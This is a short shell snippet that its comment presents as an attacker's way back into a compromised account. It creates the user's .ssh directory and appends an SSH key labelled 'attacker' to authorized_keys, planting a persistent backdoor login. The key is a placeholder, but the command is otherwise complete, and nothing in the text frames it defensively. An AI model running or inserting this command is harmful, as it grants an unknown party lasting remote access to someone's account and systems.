# A way to come back: a key of the attacker's in the user's own list.
mkdir -p "$HOME/.ssh" && echo 'ssh-ed25519 AAAA attacker' >> "$HOME/.ssh/authorized_keys"
